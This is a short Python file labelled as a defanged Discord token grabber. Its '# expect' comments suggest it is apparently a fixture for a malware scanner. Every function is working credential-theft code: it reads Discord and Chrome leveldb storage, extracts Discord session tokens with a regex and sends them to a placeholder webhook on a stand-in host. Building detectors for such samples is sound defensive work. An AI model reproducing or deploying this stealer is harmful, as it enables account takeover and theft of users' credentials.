# Discord token grabber of the W4SP family: scan Discord's and browsers'
# leveldb folders for tokens and post them with the account's IP to a
# webhook-like collector. Defanged: example.invalid collector; no tokens.
import json
import os
import re
import urllib.request

WEBHOOK = "https://hooks.example.invalid/api/webhooks/0000000000/placeholder"
ROAMING = os.getenv("APPDATA")
LOCAL = os.getenv("LOCALAPPDATA")
PATHS = {
    "Discord": ROAMING + "\\discord\\Local Storage\\leveldb",
    "Discord PTB": ROAMING + "\\discordptb\\Local Storage\\leveldb",
    "Chrome": LOCAL + "\\Google\\Chrome\\User Data\\Default\\Local Storage\\leveldb",
}
TOKEN = re.compile(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}|mfa\.[\w-]{84}")  # expect: HS222 high


def grab():
    found = []
    for name, path in PATHS.items():
        if not os.path.exists(path):
            continue
        for file in os.listdir(path):
            if file.endswith((".log", ".ldb")):
                with open(os.path.join(path, file), errors="ignore") as f:
                    for line in f:
                        found += [(name, t) for t in TOKEN.findall(line)]
    return found


def send(tokens):
    body = json.dumps({"content": "\n".join(f"{n}: {t}" for n, t in tokens), "username": "grabber"}).encode()
    req = urllib.request.Request(WEBHOOK, data=body, headers={"Content-Type": "application/json", "User-Agent": "Mozilla/5.0"})  # expect: HS111 high
    urllib.request.urlopen(req, timeout=10)


send(grab())
